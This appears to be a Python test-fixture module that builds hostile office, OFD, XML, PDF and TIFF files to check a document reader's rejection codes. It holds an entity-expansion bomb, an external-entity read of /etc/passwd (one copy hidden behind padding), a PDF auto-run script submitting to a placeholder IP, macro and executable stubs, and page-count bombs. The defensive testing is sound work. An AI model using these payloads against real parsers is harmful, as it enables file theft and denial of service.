"""Files as attackers and broken programs make them, drawn up here byte by byte."""

import io
import zipfile
from collections.abc import Callable, Mapping

from PIL import Image

Make = Callable[[], bytes]
ENTITIES = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
FETCHING = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
DEEP = 100_000
DOCUMENT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"


def package(parts: Mapping[str, str | bytes]) -> bytes:
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as opened:
        for name, content in parts.items():
            opened.writestr(name, content)
    return whole.getvalue()


def workbook(sheet: str, **more: str | bytes) -> bytes:
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    relation = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
    return package(
        {
            "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
            "_rels/.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="r1" Type="{DOCUMENT}" Target="xl/workbook.xml"/></Relationships>'
            ),
            "xl/workbook.xml": f'<workbook {main} {relation}><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="r1" Type="{kind}" Target="worksheets/sheet1.xml"/></Relationships>'
            ),
            "xl/worksheets/sheet1.xml": sheet.replace("<worksheet", f"<worksheet {main}", 1),
            **more,
        }
    )


def cell(place: str, text: str = "1") -> str:
    row = "".join(letter for letter in place if letter.isdigit())
    return f'<row r="{row}"><c r="{place}" t="inlineStr"><is><t>{text}</t></is></c></row>'


def sheet(*rows: str, head: str = "") -> str:
    return f"{head}<worksheet><sheetData>{''.join(rows)}</sheetData></worksheet>"


def far_cells() -> bytes:
    return workbook(sheet(cell("A1", "金额"), cell("XFD1048576")))


def macros() -> bytes:
    return workbook(sheet(cell("A1", "金额"), cell("A2", "100.00")), **{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 Auto_Open Shell"})


def heavy_sheet() -> bytes:
    return workbook(sheet(*(cell(f"A{row}", "x" * 640) for row in range(1, 20_000))))


def document(body: str, head: str = "") -> bytes:
    word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return package(
        {
            "[Content_Types].xml": (
                '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
            ),
            "_rels/.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="r1" Type="{DOCUMENT}" Target="word/document.xml"/></Relationships>'
            ),
            "word/document.xml": f"{head}<w:document {word}><w:body>{body}</w:body></w:document>",
        }
    )


def ofd(head: str = "", body: str = "<ofd:DocBody/>") -> bytes:
    return package({"OFD.xml": f'{head}<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0">{body}</ofd:OFD>'})


def ofd_of_pages(count: int) -> bytes:
    space = 'xmlns:ofd="http://www.ofdspec.org/2016"'
    pages = "".join(f'<ofd:Page ID="{number}" BaseLoc="P.xml"/>' for number in range(count))
    document = f"<ofd:Document {space}><ofd:CommonData/><ofd:Pages>{pages}</ofd:Pages></ofd:Document>"
    page = f"<ofd:Page {space}><ofd:Content/></ofd:Page>"
    body = "<ofd:DocBody><ofd:DocInfo/><ofd:DocRoot>D.xml</ofd:DocRoot></ofd:DocBody>"
    head = f'<ofd:OFD {space} Version="1.0">{body}</ofd:OFD>'
    return package({"OFD.xml": head, "D.xml": document, "P.xml": page})


def many_sheets(count: int) -> bytes:
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    relation = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    sheets = "".join(f'<sheet name="S{number}" sheetId="{number}" r:id="r1"/>' for number in range(1, count + 1))
    return workbook(
        sheet(cell("A1", "金额")), **{"xl/workbook.xml": f"<workbook {main} {relation}><sheets>{sheets}</sheets></workbook>"}
    )


def nested(tag: str, depth: int = DEEP) -> str:
    return f"<{tag}>" * depth + f"</{tag}>" * depth


def pdf(*objects: str, box: str = "0 0 595 842", pages: str = "<</Type/Pages/Kids[3 0 R]/Count 1>>", catalog: str = "") -> bytes:
    """Objects from number 4; number 3 is a page that says little."""
    font = "<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
    page = f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Resources{font}/Contents 4 0 R>>"
    words = "BT /F 24 Tf 72 700 Td (Contract of purchase, page of paper) Tj ET"
    content = f"<</Length {len(words)}>>\nstream\n{words}\nendstream"
    out = bytearray(b"%PDF-1.7\n")
    places: list[int] = []
    for number, body in enumerate((f"<</Type/Catalog/Pages 2 0 R{catalog}>>", pages, page, content, *objects), 1):
        places.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode()
    start = len(out)
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    out += f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n{table}trailer\n<</Size {len(places) + 1}/Root 1 0 R>>\n".encode()
    return bytes(out + f"startxref\n{start}\n%%EOF\n".encode())


def pages_without_end() -> bytes:
    """Six levels of pages of which each names the one below ten times: a million leaves, all of them one page."""
    levels = [
        f"<</Type/Pages/Kids[{' '.join([f'{number + 1} 0 R'] * 10)}]/Count {10 ** (6 - level)}>>"
        for level, number in enumerate(range(5, 10), 1)
    ]
    return pdf(*levels, "<</Type/Pages/Kids[" + " ".join(["3 0 R"] * 10) + "]/Count 10>>",
               pages=f"<</Type/Pages/Kids[{' '.join(['5 0 R'] * 10)}]/Count 1000000>>")  # fmt: skip


def script_and_attachment() -> bytes:
    names = "/Names<</EmbeddedFiles<</Names[(a.exe) 5 0 R]>>>>"
    names += "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\('http://192.0.2.1'\\))>>"
    return pdf("<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>", "<</Length 4>>\nstream\nMZ\x00\x00\nendstream", catalog=names)


def frames(count: int) -> bytes:
    out = io.BytesIO()
    first, *rest = [Image.new("1", (60, 80), 1) for _ in range(count)]
    first.save(out, "TIFF", save_all=True, append_images=rest)
    return out.getvalue()


HOSTILE: Mapping[str, tuple[Make, str]] = {
    "sheets/far cells.xlsx": (far_cells, "FILE_UNREADABLE|FILE_TOO_LARGE"),
    "sheets/ten thousand sheets.xlsx": (lambda: many_sheets(10_000), "FILE_TOO_LARGE"),
    "sheets/columns.csv": (lambda: b"a," * 20_000, ""),
    "sheets/one long cell.csv": (lambda: b'1,"' + b"a" * 1_000_000 + b'"', "FILE_TOO_LARGE"),
    "sheets/macros.xlsm": (macros, ""),
    "sheets/heavy.xlsx": (heavy_sheet, "|FILE_TOO_LARGE"),
    "sheets/entities.xlsx": (lambda: workbook(sheet(cell("A1", "&c;"), head=ENTITIES)), "FILE_UNREADABLE"),
    "sheets/fetching.xlsx": (lambda: workbook(sheet(cell("A1", "&a;"), head=FETCHING)), "FILE_UNREADABLE"),
    "sheets/deep.xlsx": (lambda: workbook(sheet(nested("row"))), "FILE_UNREADABLE"),
    "words/entities.docx": (lambda: document("<w:p><w:r><w:t>&c;</w:t></w:r></w:p>", ENTITIES), "FILE_UNREADABLE"),
    "words/out of sight.docx": (
        lambda: document("<w:p><w:r><w:t>&a;</w:t></w:r></w:p>", f'<?xml version="1.0"?>{" " * 5000}{FETCHING}'),
        "FILE_UNREADABLE",
    ),
    "words/deep.docx": (lambda: document(nested("w:tbl")), "FILE_UNREADABLE"),
    "words/deep but parsed.docx": (lambda: document(nested("w:tbl", 200)), "|FILE_UNREADABLE"),
    "ofd/entities.ofd": (lambda: ofd(ENTITIES, "<ofd:DocBody>&c;</ofd:DocBody>"), "FILE_UNREADABLE"),
    "ofd/deep.ofd": (lambda: ofd(body=nested("ofd:DocBody")), "FILE_UNREADABLE"),
    "ofd/pages without end.ofd": (lambda: ofd_of_pages(20_000), "FILE_TOO_LARGE"),
    "ofd/nothing.ofd": (ofd, "FILE_UNREADABLE"),
    "xml/entities.xml": (f'<?xml version="1.0"?>{ENTITIES}<x>&c;</x>'.encode, "FILE_UNREADABLE"),
    "xml/utf16.xml": (lambda: f'<?xml version="1.0" encoding="utf-16"?>{FETCHING}<x>&a;</x>'.encode("utf-16"), "FILE_UNREADABLE"),
    "xml/wide.xml": (lambda: b"<x>" + b"<y/>" * 1_000_001 + b"</x>", "FILE_TOO_LARGE"),
    "pdf/huge page.pdf": (lambda: pdf(box="0 0 1000000 1000000"), "|FILE_UNREADABLE"),
    "pdf/no page.pdf": (lambda: pdf(box="0 0 0 0"), "|FILE_UNREADABLE"),
    "pdf/a million pages.pdf": (lambda: pdf(pages="<</Type/Pages/Kids[3 0 R]/Count 1000000>>"), "FILE_UNREADABLE|FILE_TOO_LARGE"),
    "pdf/pages of pages.pdf": (lambda: pdf(pages="<</Type/Pages/Kids[2 0 R 3 0 R]/Count 9>>"), "|FILE_UNREADABLE"),
    "pdf/script.pdf": (script_and_attachment, ""),
    "pdf/pages without end.pdf": (pages_without_end, "FILE_TOO_LARGE"),
    "pictures/300 frames.tif": (lambda: frames(300), "|FILE_UNREADABLE"),
}
"""Name → how to make it, and the codes that its reading may end with; none before the first bar means that it may be read."""
